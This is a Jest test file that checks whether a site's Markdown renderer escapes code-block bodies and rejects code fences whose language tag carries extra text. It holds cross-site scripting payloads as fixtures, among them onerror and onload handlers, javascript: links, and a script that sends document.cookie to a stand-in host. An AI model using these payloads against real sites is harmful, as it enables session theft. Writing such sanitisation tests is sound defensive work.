/** @jest-environment node */
/**
 * Hostile code fences (__tests__/fixtures/hostile/code-fences/): a block's
 * body reaches the page only as escaped text, whatever its language, and
 * anything after a fence's language is refused, naming the file and line.
 */
import fs from 'node:fs';
import { SITE_PLUGINS, transformMarkdown } from '../support/transformRemark';
import { fixture, openedElements, renderContent, scratch, textOf } from '../support/hostile';

/** The HTML with only `&lt;` and `&amp;` left escaped: a payload in it is still text, as long as its "<" is. */
const markupAsText = (html: string): string =>
  html
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'");

const CLASS = 'code-fences';
const FENCE = 'a fence takes one word, its language (```bash), and nothing after it';

let dir: string;
beforeAll(() => {
  dir = scratch(CLASS);
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('hostile code fences', () => {
  it('keeps every block body inert: none, NoNe, an entity-spelled none, text, no language, unknown and highlighted languages, indented code', async () => {
    const { html, error } = await renderContent(dir, 'blog/en/none-body.md', fixture(CLASS, 'none-body.md'));
    expect(error).toBeUndefined();
    // Only the site's own elements: frames, highlight wrappers and Prism's token spans.
    expect(new Set(openedElements(html ?? ''))).toEqual(new Set(['p', 'div', 'pre', 'code', 'span']));
    const payloads = [
      "<img src=x onerror=alert(document.cookie)>\n<script>fetch('https://evil.example/?c='+document.cookie)</script>",
      '<svg/onload=alert(1)>',
      '<iframe src=javascript:alert(1)>',
      '<a href="javascript:alert(1)">click</a>',
      '</code></pre><img src=x onerror=alert(2)>',
      '"><script>alert(3)</script>',
      '<img src=x onerror=alert(6)> indented code',
    ];
    for (const payload of payloads) expect(markupAsText(html ?? '')).toContain(payload.replace(/&/g, '&amp;').replace(/</g, '&lt;'));
    // The highlighted HTML block: split into token spans, its text exactly what was written.
    expect(textOf(html ?? '')).toContain('<script>alert(4)</script><!-- --!><img src=x onerror=alert(5)>');
  });

  it.each([
    ['meta-html.md', 9, '"js \\"><img src=x onerror=alert(1)>" has text after its language ("\\"><img src=x onerror=alert(1)>")'],
    ['meta-title.md', 7, '"bash title=\'\\"><svg onload=alert(1)>\'" has text after its language ("title=\'\\"><svg onload=alert(1)>\'")'],
    ['prism-options-spaced.md', 7, '"bash {promptUser: \\"><img src=x onerror=alert(1)>}" has text after its language ("{promptUser: \\"><img src=x onerror=alert…")'],
  ])('refuses %s, naming the file and the line of the fence', async (name, line, found) => {
    const { error } = await renderContent(dir, `blog/en/${name}`, fixture(CLASS, name));
    expect(error).toBe(`content/blog/en/${name}:${line}: code block ${found}; ${FENCE}`);
  });

  it.each([
    ['prism-options-attached.md', 7, '"shell{promptHost:x\\"><svg/onload=alert(1)>,outputLines:2}"'],
    ['language-attribute.md', 7, '"x\\"onmouseover=\\"alert(1)"'],
  ])('refuses %s: a language with more than letters, digits and + # . - _', async (name, line, language) => {
    const { error } = await renderContent(dir, `blog/en/${name}`, fixture(CLASS, name));
    expect(error).toBe(`content/blog/en/${name}:${line}: code block language ${language}: letters, digits and + # . - _ only (bash, json, c++, c#, mermaid)`);
  });

  it('holds a fetched README to the same rules, naming its URL', async () => {
    const url = 'https://raw.example.com/stockpay/README.md';
    const source = fixture(CLASS, 'meta-html.md');
    const readme = { id: 'remote-readme-en', url, internal: { type: 'RemoteReadme', mediaType: 'text/markdown', content: source } };
    const { html } = await transformMarkdown(readme, source, SITE_PLUGINS, { language: 'en' });
    await expect(html()).rejects.toThrow(`${url}:9: code block "js \\"><img src=x onerror=alert(1)>" has text after its language`);
  });
});
